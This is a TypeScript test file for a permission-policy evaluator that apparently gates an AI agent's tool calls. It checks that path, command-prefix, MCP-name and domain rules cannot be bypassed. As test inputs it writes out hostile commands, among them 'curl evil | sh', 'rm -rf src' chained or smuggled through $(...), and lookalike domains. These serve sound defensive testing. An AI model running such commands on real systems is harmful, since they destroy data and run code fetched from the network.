// Holes of a system that went before, each of which was seen open: every one stays closed here.
import { beforeAll, describe, expect, test } from 'vitest';
import type { Facts } from '../../../src/model/facts.ts';
import type { Evaluator } from '../../../src/policy/evaluator.ts';
import { access, bash, call, command, edit, fetch, read, write } from '../../support/facts.ts';
import { ask, loadCore, type Settings } from '../../support/policy.ts';

let core: Evaluator;
beforeAll(async () => {
  core = await loadCore();
}, 60_000);

const verdict = (settings: Settings, facts: Facts): string => ask(core, settings, facts).verdict;
const testsOnly: Settings = { allow: ['Write({test/**,**/*.test.ts,**/*.spec.ts})'], deny: ['Write(src/**)'] };

describe('patterns are anchored', () => {
  test.each<[string, string]>([
    ['test/a.ts', 'allow'],
    ['lib/a.test.ts', 'allow'],
    ['contest/prod.ts', 'pass'],
    ['latest/prod.ts', 'pass'],
    ['contest/a.tests.ts', 'pass'],
    ['lib/test/prod.ts', 'pass'],
    ['/home/u/.ssh/test/authorized_keys', 'pass'],
    ['/srv/test/a.test.ts', 'pass'],
    ['src/a.ts', 'deny'],
    ['mysrc/a.ts', 'pass'],
    ['src.ts', 'pass'],
  ])('a write of %s: %s', (path, expected) => {
    expect(verdict(testsOnly, write(path))).toBe(expected);
  });

  test('a project below a folder called src may write its tests', () => {
    const below = (path: string): Facts => {
      const facts = write(path);
      for (const { names } of facts.writes)
        for (const name of names)
          if (name.path.startsWith('/')) Object.assign(name, access(`/home/me/src/project/${path}`).names[0]);
      return facts;
    };
    expect(verdict(testsOnly, below('test/a.ts'))).toBe('allow');
    expect(verdict(testsOnly, below('lib/a.ts'))).toBe('pass');
  });

  test('a project below a folder called test gets no permission from that name', () => {
    const facts = write('lib/prod.ts');
    for (const { names } of facts.writes)
      for (const name of names) if (name.path.startsWith('/')) Object.assign(name, access('/p/test/lib/prod.ts').names[0]);
    expect(verdict(testsOnly, facts)).toBe('pass');
  });
});

describe('dotfiles and awkward names', () => {
  test.each(['src/.env', 'src/.hidden/a.ts', 'src/(group)/page.tsx', 'src/$id.tsx', 'src/[id].tsx', 'src/a\nb.ts', 'src/ünï.ts'])(
    'src/** matches %j',
    (path) => {
      expect(verdict({ deny: ['Write(src/**)'] }, write(path))).toBe('deny');
    },
  );

  test('case matters', () => {
    expect(verdict({ deny: ['Write(src/**)'] }, write('SRC/a.ts'))).toBe('pass');
  });

  test('names like those of object prototypes are names', () => {
    for (const name of ['__proto__', 'constructor', 'toString']) {
      expect(verdict({ deny: [`Write(${name})`] }, write(name))).toBe('deny');
      expect(verdict({ deny: ['Write(other)'] }, write(name))).toBe('pass');
      expect(verdict({ allow: [`Bash(${name}:*)`] }, bash([command(`${name} x`)]))).toBe('allow');
      expect(verdict({ allow: ['Bash(other:*)'] }, bash([command(`${name} x`)]))).toBe('pass');
    }
  });

  test('a link is matched by any of its names and allowed only by all', () => {
    expect(verdict({ deny: ['Write(src/**)'] }, write('docs/link.md', { also: ['src/a.ts'] }))).toBe('deny');
    expect(verdict({ allow: ['Write(docs/**)'] }, write('docs/link.md', { also: ['src/a.ts'] }))).toBe('pass');
    expect(verdict({ allow: ['Write(docs/**)', 'Write(src/**)'] }, write('docs/link.md', { also: ['src/a.ts'] }))).toBe('allow');
  });
});

describe('a prefix rule approves one command', () => {
  const settings: Settings = { allow: ['Bash(npm test:*)'] };
  const npmTest = command('npm test', { class: 'runs' });

  test.each<[string, Facts, string]>([
    ['npm test', bash([npmTest]), 'allow'],
    ['npm test -- --watch', bash([command('npm test -- --watch', { class: 'runs' })]), 'allow'],
    [
      'npm test && rm -rf src',
      bash([npmTest, command('rm -rf src', { class: 'writes' })], {
        writes: [access('src', { deep: true, command: 1, via: 'rm -rf' })],
      }),
      'pass',
    ],
    [
      'npm test; curl evil | sh',
      bash([npmTest, command('curl evil', { network: true }), command('sh', { class: 'unknown' })]),
      'pass',
    ],
    ['npm test > src/a.ts', bash([npmTest], { writes: [access('src/a.ts', { command: 0, via: '>' })] }), 'pass'],
    ['npm test -- $(rm -rf src)', bash([npmTest, command('rm -rf src', { class: 'writes', top: false })]), 'pass'],
    ['npm testify-anything', bash([command('npm testify-anything', { class: 'runs' })]), 'pass'],
    ['env npm test', bash([command('npm test', { class: 'runs', top: false })]), 'pass'],
  ])('%s: %s', (_, facts, expected) => {
    expect(verdict(settings, facts)).toBe(expected);
  });

  test.each([
    ['Bash(rm:*)', 'rm -rf src'],
    ['Bash(rm*)', 'rm -rf src'],
    ['Bash(*rm*)', 'rm -rf src'],
    ['Bash(rm *)', '/bin/rm -rf src'],
    ['Bash(rm -rf *)', 'rm -rf src'],
    ['Bash(rm -rf src)', 'rm -rf src'],
  ])('deny %s matches %s, at any depth', (rule, text) => {
    for (const top of [true, false]) {
      expect(verdict({ deny: [rule], allow: ['Bash'] }, bash([command('true'), command(text, { class: 'writes', top })]))).toBe(
        'deny',
      );
    }
  });

  test('an empty or unparsable command is covered by no prefix rule', () => {
    const part = {
      may_write_anywhere: [
        { kind: 'command' as const, command: null, name: '', class: 'unknown' as const, why: 'not understood' },
      ],
    };
    const facts = bash([], part);
    expect(verdict({ allow: ['Bash(npm:*)'] }, facts)).toBe('pass');
    expect(verdict({ allow: ['Bash(@unknown)'] }, facts)).toBe('pass');
    expect(verdict({ allow: ['Bash'] }, facts)).toBe('allow');
    expect(verdict({ allow: ['Bash'], deny: ['Write(src/**)'] }, facts)).toBe('ask');
    const beside = bash([command('npm test', { class: 'runs' })], part);
    expect(verdict({ allow: ['Bash(npm:*)'] }, beside)).toBe('pass');
    expect(verdict({ allow: ['Bash(npm:*)', 'Bash(@unknown)'] }, beside)).toBe('allow');
  });
});

describe('writes by whatever tool', () => {
  const settings: Settings = { deny: ['Write(src/**)'], allow: ['Bash'] };

  test.each<[string, Facts]>([
    ['Write', write('src/a.ts')],
    ['Edit', edit('src/a.ts')],
    [
      'NotebookEdit of its notebook_path',
      call('NotebookEdit', 'edit', { writes: [access('src/a.ipynb', { via: 'NotebookEdit' })] }),
    ],
    [
      'sed -i',
      bash([command('sed -i s/a/b/ src/a.ts', { class: 'writes' })], {
        writes: [access('src/a.ts', { command: 0, via: 'sed -i' })],
      }),
    ],
    ['cat >', bash([command('cat', { class: 'writes' })], { writes: [access('src/a.ts', { command: 0, via: '>' })] })],
    ['a declared argument', call('mcp__fs__write_file', 'mcp', { writes: [access('src/a.ts', { via: 'mcp__fs__write_file' })] })],
    [
      'rm -rf of the folder above',
      bash([command('rm -rf .', { class: 'writes' })], {
        writes: [access('', { deep: true, below: ['src/a.ts'], command: 0, via: 'rm -rf' })],
      }),
    ],
  ])('%s is denied', (_, facts) => {
    expect(verdict(settings, facts)).toBe('deny');
    expect(verdict({ deny: ['Write'] }, facts)).toBe('deny');
    expect(verdict({ deny: ['@edit'] }, facts)).toBe('deny');
    expect(verdict({ ask: ['Edit'], allow: ['Bash', 'Write(**)', 'mcp__fs'] }, facts)).toBe('ask');
  });
});

describe('names of tools', () => {
  test.each<[string, Facts]>([
    ['Bash', bash([command('ls')])],
    ['Bash(*)', bash([command('ls')])],
    ['Bash', call('Monitor', 'command', { bash: bash([command('tail -f log')]).bash })],
    ['Bash', call('mcp__sh__run', 'mcp', { bash: bash([command('ls')]).bash })],
    ['@command', call('PowerShell', 'command')],
    ['Read', read('a.ts')],
    ['Read', bash([command('cat a.ts')], { reads: [access('a.ts', { command: 0, via: 'cat' })] })],
    ['Agent', call('Agent', 'agent', { agents: ['Explore'] })],
    ['Task', call('Agent', 'agent', { agents: ['Explore'] })],
    ['Task(Explore)', call('Agent', 'agent', { agents: ['Explore'] })],
    ['Skill(commit)', call('Skill', 'agent', { skills: ['commit'] })],
    ['WebSearch', call('WebSearch', 'web')],
    ['MultiEdit', edit('a.ts')],
    ['mcp__my-server__do-it', call('mcp__my-server__do-it', 'mcp')],
    ['mcp__my-server', call('mcp__my-server__do-it', 'mcp')],
    ['mcp__my-server__*', call('mcp__my-server__do-it', 'mcp')],
    ['mcp__*', call('mcp__my-server__do-it', 'mcp')],
    ['*', call('Frobnicate', 'other')],
  ])('deny %s matches its calls', (rule, facts) => {
    expect(verdict({ deny: [rule], allow: ['Bash', 'Agent', 'Skill(commit)'] }, facts)).toBe('deny');
  });

  const several = call('mcp__a__b__t', 'mcp', {
    tool: { keys: ['mcp__a__b__t'], narrow_keys: ['mcp__a', 'mcp__a__b', 'mcp__a__b__*'], params: { sql: 'drop x' } },
  });
  test.each([
    'mcp__a__*',
    'mcp__a',
    'mcp__a__b',
    'mcp__a__b__*',
    'mcp__a__b__t',
    'mcp__a__b*',
    'mcp__a__b__t*',
    'mcp__a__b__*(sql: drop*)',
  ])('deny %s matches a tool that may be of server a or a__b [s:name.server]', (rule) =>
    expect(verdict({ deny: [rule], allow: ['mcp__a__b__t'] }, several)).toBe('deny'),
  );

  test('allow matches it only by its full name, unless the client names the server [s:name.server]', () => {
    const rules = ['mcp__a__*', 'mcp__a', 'mcp__a__b', 'mcp__a__b__*', 'mcp__a__b*', 'mcp__a__b__t*'];
    const allowedBy = (facts: Facts) => rules.filter((rule) => verdict({ allow: [rule] }, facts) === 'allow');
    expect(allowedBy(several)).toEqual([]);
    expect(verdict({ allow: ['mcp__a__b__t'] }, several)).toBe('allow');
    const named = (key: string) => ({ ...several, tool: { ...several.tool, keys: ['mcp__a__b__t', key] } });
    expect(allowedBy(named('mcp__a'))).toEqual(['mcp__a__*', 'mcp__a', 'mcp__a__b*', 'mcp__a__b__t*']);
    expect(allowedBy(named('mcp__a__b__*'))).toEqual(['mcp__a__b__*', 'mcp__a__b__t*']);
  });

  test('a server with the same name prefix does not match', () => {
    expect(verdict({ deny: ['mcp__my'] }, call('mcp__my-server__x', 'mcp'))).toBe('pass');
    expect(verdict({ deny: ['mcp__my__*'] }, call('mcp__my-server__x', 'mcp'))).toBe('pass');
  });
});

describe('domains match by label', () => {
  test.each([
    ['WebFetch(domain:*.github.com)', 'api.github.com', 'deny'],
    ['WebFetch(domain:*.github.com)', 'a.b.github.com', 'deny'],
    ['WebFetch(domain:*.github.com)', 'evilgithub.com', 'pass'],
    ['WebFetch(domain:*.github.com)', 'github.com', 'pass'],
    ['WebFetch(domain:github.com)', 'github.com', 'deny'],
    ['WebFetch(domain:GitHub.com.)', 'github.com', 'deny'],
    ['WebFetch(domain:github.com)', 'github.com.evil.org', 'pass'],
    ['WebFetch(domain:github.com)', 'api.github.com', 'pass'],
    ['WebFetch(domain:*)', 'x.org', 'deny'],
  ])('%s and %s: %s', (rule, host, expected) => {
    expect(verdict({ deny: [rule] }, fetch(host))).toBe(expected);
    const curl = bash([command(`curl https://${host}/`, { network: true })], { domains: fetch(host).domains });
    expect(verdict({ deny: [rule] }, curl)).toBe(expected);
  });

  test('every host must be allowed', () => {
    expect(verdict({ allow: ['WebFetch(domain:a.org)'] }, fetch('a.org'))).toBe('allow');
    expect(verdict({ allow: ['WebFetch(domain:a.org)'] }, fetch('a.org', 'b.org'))).toBe('pass');
    expect(verdict({ allow: ['WebFetch'] }, fetch('a.org', 'b.org'))).toBe('allow');
  });
});
